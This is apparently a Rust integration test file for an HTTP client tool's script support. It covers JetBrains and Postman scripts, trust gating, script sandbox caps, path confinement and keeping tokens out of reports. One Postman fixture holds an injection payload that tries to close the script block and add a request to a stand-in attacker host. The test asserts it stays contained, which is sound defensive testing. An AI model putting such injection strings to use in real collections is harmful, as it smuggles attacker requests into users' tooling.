//! JetBrains HTTP Client scripts (`< {% … %}`, `> {% … %}`) through the
//! real binary against a loopback API: the login pattern from `send
//! FILE#NAME`, `replay --live` and `test`; scripts refused in an untrusted
//! collection; a failing script named by file and line while the run goes
//! on; the secrets a script handles never written.

use crate::common::{self, RawServer};

/// `/login` answers a token; `/me` echoes the Authorization it got; `/sig`
/// echoes its X-Signature; `/broken` answers 500.
fn api() -> RawServer {
    RawServer::start(|req| {
        let head = String::from_utf8_lossy(req).into_owned();
        let json = ("Content-Type", "application/json");
        let header = |name: &str| {
            head.lines()
                .find_map(|l| {
                    let (n, v) = l.split_once(':')?;
                    n.eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
                })
                .unwrap_or_default()
        };
        if head.starts_with("POST /login") {
            common::reply(
                200,
                &[json],
                r#"{"token":"tok_script_FAKE_0123456789","user":{"id":7}}"#,
            )
        } else if head.starts_with("GET /me") {
            let auth = header("authorization");
            let status = if auth.is_empty() { 401 } else { 200 };
            common::reply(status, &[json], &format!(r#"{{"auth":"{auth}","id":7}}"#))
        } else if head.starts_with("GET /sig") {
            common::reply(
                200,
                &[json],
                &format!(r#"{{"sig":"{}"}}"#, header("x-signature")),
            )
        } else {
            common::reply(500, &[json], r#"{"error":"boom"}"#)
        }
    })
}

/// The JetBrains login pattern: an unnamed `### Login` whose handler keeps
/// the token, and requests that use `{{auth_token}}`.
fn login_file(dir: &std::path::Path, base: &str) -> String {
    let text = format!(
        "@host = {base}\n\n\
         ### Login\n\
         POST {{{{host}}}}/login\n\
         Content-Type: application/json\n\n\
         {{\"user\": \"ann\"}}\n\n\
         > {{%\n\
         \x20 client.global.set(\"auth_token\", response.body.token);\n\
         \x20 client.log(\"logged in as\", response.body.user.id);\n\
         %}}\n\n\
         ### me\n\
         # @name me\n\
         GET {{{{host}}}}/me\n\
         Authorization: Bearer {{{{auth_token}}}}\n\n\
         > {{%\n\
         \x20 client.test(\"me is 7\", function () {{\n\
         \x20   client.assert(response.body.id === 7, \"id is \" + response.body.id);\n\
         \x20 }});\n\
         \x20 client.test(\"status is 201\", function () {{\n\
         \x20   client.assert(response.status === 201, \"status is \" + response.status);\n\
         \x20 }});\n\
         %}}\n\n\
         ?? js response.body.id == 7\n\
         ?? js response.parsedBody.id > 10\n\
         ?? js response.headers.valueOf(\"content-type\").includes(\"json\")\n"
    );
    let p = dir.join("api.http");
    std::fs::write(&p, text).unwrap();
    p.to_string_lossy().into_owned()
}

#[test]
fn send_runs_the_login_handler_first_and_uses_the_token_it_set() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    let file = login_file(dir.path(), &s.base);
    let target = format!("{file}#me");
    let o = common::apiscope_with(
        data.path(),
        dir.path(),
        &["send", &target, "--trust", "--yes", "--format", "json"],
        b"",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    let seen = common::seen(&s);
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert!(seen[0].0.starts_with("POST /login"), "{seen:?}");
    assert_eq!(
        seen[1].1.as_deref(),
        Some("Bearer tok_script_FAKE_0123456789"),
        "{seen:?}"
    );
    assert!(
        o.stderr.contains("'Login' log: logged in as 7"),
        "{}",
        o.stderr
    );
    assert!(
        o.stderr.contains("'me' test passed: me is 7"),
        "{}",
        o.stderr
    );
    assert!(
        o.stderr
            .contains("'me' test FAILED: status is 201: status is 200"),
        "{}",
        o.stderr
    );
    // The token a script kept is a secret: never in what was written.
    for f in walk(data.path()) {
        let bytes = std::fs::read(&f).unwrap_or_default();
        assert!(
            !String::from_utf8_lossy(&bytes).contains("tok_script_FAKE_0123456789"),
            "{} holds the token",
            f.display()
        );
    }
    assert!(
        !o.stdout.contains("tok_script_FAKE_0123456789"),
        "{}",
        o.stdout
    );
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[test]
fn an_untrusted_collection_runs_no_script_and_says_how_to_trust_it() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    let file = login_file(dir.path(), &s.base);
    let target = format!("{file}#me");
    let o = common::apiscope_in(dir.path(), &["send", &target, "--yes"], b"");
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(
        o.stderr
            .contains("{{auth_token}} is set by the response handler of 'Login'")
            && o.stderr.contains("--trust"),
        "{}",
        o.stderr
    );
    assert!(common::seen(&s).is_empty(), "nothing is sent");
    // `test`: exit 2 before anything is sent, naming both ways to trust.
    let o = common::apiscope_in(dir.path(), &["test", &file, "--yes"], b"");
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(
        o.stderr.contains("scripts run only in trusted collections")
            && o.stderr.contains("--trust")
            && o.stderr.contains("apiscope trust"),
        "{}",
        o.stderr
    );
    assert!(common::seen(&s).is_empty(), "nothing is sent");
}

#[test]
fn replay_live_and_test_run_the_scripts_in_order() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    let file = login_file(dir.path(), &s.base);
    let o = common::apiscope_in(
        dir.path(),
        &[
            "replay", &file, "--live", "--trust", "--yes", "--format", "json",
        ],
        b"",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    let seen = common::seen(&s);
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(
        seen[1].1.as_deref(),
        Some("Bearer tok_script_FAKE_0123456789")
    );
    // `test`: a handler's client.test results are the request's tests,
    // and a failed one fails the run (exit 1).
    let o = common::apiscope_in(
        dir.path(),
        &[
            "test",
            &file,
            "--trust",
            "--yes",
            "--report",
            "junit:r.xml",
            "--report",
            "tap:r.tap",
            "--report",
            "json:r.json",
            "--report",
            "markdown:r.md",
        ],
        b"",
    );
    assert_eq!(o.code, 1, "{}\n{}", o.stdout, o.stderr);
    assert!(o.stdout.contains("me is 7"), "{}", o.stdout);
    // The token the login's handler kept (and `me` sent, and the server
    // echoed) is in no report.
    for r in ["r.xml", "r.tap", "r.json", "r.md"] {
        let text = std::fs::read_to_string(dir.path().join(r)).unwrap();
        assert!(text.contains("status is 201"), "{r}: {text}");
        assert!(!text.contains("tok_script_FAKE_0123456789"), "{r}: {text}");
    }
    assert!(
        o.stdout.contains("status is 201") && o.stdout.contains("status is 200"),
        "{}",
        o.stdout
    );
    assert!(!o.stdout.contains("tok_script_FAKE"), "{}", o.stdout);
    // `?? js`: run in the engine, judged by its predicate.
    assert!(
        o.stdout.contains("✔ js response.body.id == 7"),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout.contains("✘ js response.parsedBody.id > 10") && o.stdout.contains("got 7"),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout
            .contains(r#"✔ js response.headers.valueOf("content-type").includes("json")"#),
        "{}",
        o.stdout
    );
}

#[test]
fn a_failing_script_is_one_line_with_file_and_line_and_the_run_goes_on() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("api.http");
    std::fs::write(
        &p,
        format!(
            "### first\nGET {0}/broken\n\n> {{%\n  const x = 1;\n  response.body.nope.deeper;\n%}}\n\n\
             ### forever\nGET {0}/broken\n\n> {{% while (true) {{}} %}}\n\n\
             ### signed\n< {{%\n  request.variables.set(\"sig\", \"sig-\" + request.method.toLowerCase());\n%}}\n\
             GET {0}/sig\nX-Signature: {{{{sig}}}}\n\n\
             > ./handler.js\n",
            s.base
        ),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("handler.js"),
        "client.test('signed', () => client.assert(response.body.sig === 'sig-get', response.body.sig));\n",
    )
    .unwrap();
    let file = p.to_string_lossy().into_owned();
    let o = common::apiscope_in(dir.path(), &["test", &file, "--trust", "--yes"], b"");
    assert_eq!(o.code, 1, "{}\n{}", o.stdout, o.stderr);
    // The error names the file's line 6, where `.deeper` is read.
    assert!(o.stdout.contains("api.http:6: TypeError"), "{}", o.stdout);
    assert!(o.stdout.contains("time cap"), "{}", o.stdout);
    assert!(o.stdout.contains("signed"), "{}", o.stdout);
    // The pre-request script's variable went out in the header.
    let all = s.requests().concat().to_ascii_lowercase();
    assert!(all.contains("x-signature: sig-get"), "{all}");
    assert_eq!(common::seen(&s).len(), 3);
}

#[test]
fn a_script_file_outside_the_collection_is_not_read() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    let inner = dir.path().join("c");
    std::fs::create_dir(&inner).unwrap();
    std::fs::write(dir.path().join("outside.js"), "client.log('read me')").unwrap();
    let p = inner.join("api.http");
    std::fs::write(&p, format!("GET {}/me\n\n> ../outside.js\n", s.base)).unwrap();
    let file = p.to_string_lossy().into_owned();
    let o = common::apiscope_in(&inner, &["send", &file, "--trust", "--yes"], b"");
    assert!(!o.stderr.contains("read me"), "{}", o.stderr);
    assert!(o.stderr.contains("not run"), "{}", o.stderr);
}

/// A Postman collection whose login test script keeps the token in the
/// environment, a folder whose pre-request script sets a variable, and a
/// request whose tests use pm.expect.
fn postman_collection(base: &str) -> String {
    serde_json::json!({
        "info": {"name": "Shop", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "event": [{"listen": "prerequest", "script": {"exec": ["pm.variables.set('client', 'apiscope');"]}}],
        "item": [
            {
                "name": "Login",
                "event": [{"listen": "test", "script": {"exec": [
                    "pm.test('logged in', () => pm.response.to.have.status(200));",
                    "pm.environment.set('token', pm.response.json().token);",
                    "/* %}\n### injected\nPOST http://attacker.test/x */"
                ]}}],
                "request": {"method": "POST", "url": format!("{base}/login"), "body": {"mode": "raw", "raw": "{}"}}
            },
            {
                "name": "Account",
                "item": [{
                    "name": "Me",
                    "event": [{"listen": "test", "script": {"exec": [
                        "pm.test('id is 7', () => pm.expect(pm.response.json().id).to.eql(7));",
                        "pm.test('auth echoed', () => pm.expect(pm.response.json().auth).to.include('Bearer '));"
                    ]}}],
                    "request": {"method": "GET", "url": format!("{base}/me"), "header": [
                        {"key": "Authorization", "value": "Bearer {{token}}"},
                        {"key": "X-Client", "value": "{{client}}"}
                    ]}
                }]
            }
        ]
    })
    .to_string()
}

#[test]
fn imported_postman_scripts_are_files_and_run_with_pm_once_trusted() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("shop.json"), postman_collection(&s.base)).unwrap();
    let o = common::apiscope_in(dir.path(), &["import", "shop.json", "-o", "shop"], b"");
    assert_eq!(o.code, 0, "{}", o.stderr);
    let http = std::fs::read_to_string(dir.path().join("shop/shop.http")).unwrap();
    // Scripts are referenced, never inlined: the `%}` / `###` in one stays
    // in its file.
    assert!(http.contains("> ./scripts/login.test.js"), "{http}");
    assert!(http.contains("< ./scripts/me.pre.js"), "{http}");
    assert!(!http.contains("attacker"), "{http}");
    let login = std::fs::read_to_string(dir.path().join("shop/scripts/login.test.js")).unwrap();
    assert!(login.contains("pm.environment.set('token'"), "{login}");
    let file = dir
        .path()
        .join("shop/shop.http")
        .to_string_lossy()
        .into_owned();
    let o = common::apiscope_in(dir.path(), &["test", &file, "--trust", "--yes"], b"");
    assert_eq!(o.code, 0, "{}\n{}", o.stdout, o.stderr);
    assert!(o.stdout.contains("✔ logged in"), "{}", o.stdout);
    assert!(o.stdout.contains("✔ id is 7"), "{}", o.stdout);
    assert!(o.stdout.contains("✔ auth echoed"), "{}", o.stdout);
    let all = s.requests().concat().to_ascii_lowercase();
    assert!(all.contains("x-client: apiscope"), "{all}");
}

#[test]
fn a_handler_file_that_sets_a_variable_is_sent_first_too() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("api.http"),
        format!(
            "### Login\nPOST {0}/login\n\n> ./login.js\n\n### me\nGET {0}/me\nAuthorization: Bearer {{{{auth_token}}}}\n",
            s.base
        ),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("login.js"),
        "client.global.set(\"auth_token\", response.body.token);\n",
    )
    .unwrap();
    let target = format!("{}#me", dir.path().join("api.http").display());
    let o = common::apiscope_in(dir.path(), &["send", &target, "--trust", "--yes"], b"");
    assert_eq!(o.code, 0, "{}", o.stderr);
    let seen = common::seen(&s);
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(
        seen[1].1.as_deref(),
        Some("Bearer tok_script_FAKE_0123456789")
    );
}

#[test]
fn the_trust_question_says_what_scripts_trusting_runs() {
    let dir = tempfile::tempdir().unwrap();
    let file = login_file(dir.path(), "http://127.0.0.1:9");
    let c = apiscope::tui::collection::Collections::open(std::path::Path::new(&file), None)
        .expect("opens");
    let q = c.trust_question().join("\n");
    assert!(q.contains("its scripts do not run (2 request(s)"), "{q}");
    assert!(q.contains("runs its scripts, sandboxed"), "{q}");
    let plain = dir.path().join("plain.http");
    std::fs::write(&plain, "GET http://127.0.0.1:9/x\n").unwrap();
    let c = apiscope::tui::collection::Collections::open(&plain, None).expect("opens");
    assert!(!c.trust_question().join("\n").contains("scripts"));
}

#[test]
fn the_script_caps_come_from_config_toml() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    std::fs::write(
        data.path().join("config.toml"),
        "[scripts]\ntime_seconds = 0.2\nmemory_mb = 16\n",
    )
    .unwrap();
    let p = dir.path().join("api.http");
    std::fs::write(
        &p,
        format!("GET {}/me\n\n> {{% while (true) {{}} %}}\n", s.base),
    )
    .unwrap();
    let file = p.to_string_lossy().into_owned();
    let o = common::apiscope_with(
        data.path(),
        dir.path(),
        &["test", &file, "--trust", "--yes"],
        b"",
    );
    assert_eq!(o.code, 1, "{}\n{}", o.stdout, o.stderr);
    assert!(
        o.stdout.contains("stopped after 0.2 s (the time cap)"),
        "{}",
        o.stdout
    );
    // A cap out of range is one line naming it; the defaults are used.
    std::fs::write(
        data.path().join("config.toml"),
        "[scripts]\nmemory_mb = 1\n",
    )
    .unwrap();
    let o = common::apiscope_with(
        data.path(),
        dir.path(),
        &["test", &file, "--trust", "--yes"],
        b"",
    );
    assert!(
        o.stderr.contains("[scripts] memory_mb = 1: from 4 to 1024"),
        "{}",
        o.stderr
    );
    assert!(
        o.stdout.contains("stopped after 2 s (the time cap)"),
        "{}",
        o.stdout
    );
}

/// A pre-request script's change that carries a private value (Bruno's
/// `req.setHeader(…, bru.getEnvVar("apiKey"))`) counts as the request's
/// own secret: to an origin not confirmed, nothing goes unasked.
#[test]
fn a_private_value_a_script_puts_in_a_header_is_asked_about() {
    let server = crate::common::RawServer::start(|_| crate::common::reply(200, &[], "{}"));
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("api.http"),
        "### x\n# @name x\n< {%\n  req.setHeader(\"X-K\", bru.getEnvVar(\"apiKey\"));\n%}\nGET {{host}}/x\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("http-client.env.json"),
        serde_json::json!({"dev": {"host": server.base}}).to_string(),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("http-client.private.env.json"),
        serde_json::json!({"dev": {"apiKey": "k_FAKE_private_1234"}}).to_string(),
    )
    .unwrap();
    let run = crate::common::apiscope_in(
        dir.path(),
        &["send", "api.http#x", "--env", "dev", "--trust"],
        b"",
    );
    assert_ne!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        server.requests().is_empty(),
        "sent unasked: {:?}",
        server.requests()
    );
    assert!(
        !run.stdout.contains("k_FAKE_private_1234") && !run.stderr.contains("k_FAKE_private_1234")
    );
}

/// A handler that throws before it sets the token: `replay --live` sends
/// its request once, and the request that needs the token is not sent —
/// rather than sending the failing one again as a dependency (its handler
/// would throw again).
#[test]
fn a_handler_that_throws_is_not_sent_again_as_a_dependency() {
    let s = api();
    let dir = tempfile::tempdir().unwrap();
    let text = format!(
        "### Login\n# @name login\nPOST {0}/login\n\n> {{% throw new Error(\"no token today\"); client.global.set(\"auth_token\", response.body.token); %}}\n\n### me\n# @name me\nGET {0}/me\nAuthorization: Bearer {{{{auth_token}}}}\n",
        s.base
    );
    let file = dir.path().join("api.http");
    std::fs::write(&file, text).unwrap();
    let file = file.to_string_lossy().into_owned();
    let o = common::apiscope_in(
        dir.path(),
        &["replay", &file, "--live", "--trust", "--yes"],
        b"",
    );
    let seen = common::seen(&s);
    assert_eq!(seen.len(), 1, "{seen:?}\n{}", o.stderr);
    assert!(o.stderr.contains("no token today"), "{}", o.stderr);
    assert!(
        o.stderr
            .contains("'login' was sent (200) and its handler did not set it"),
        "{}",
        o.stderr
    );
}
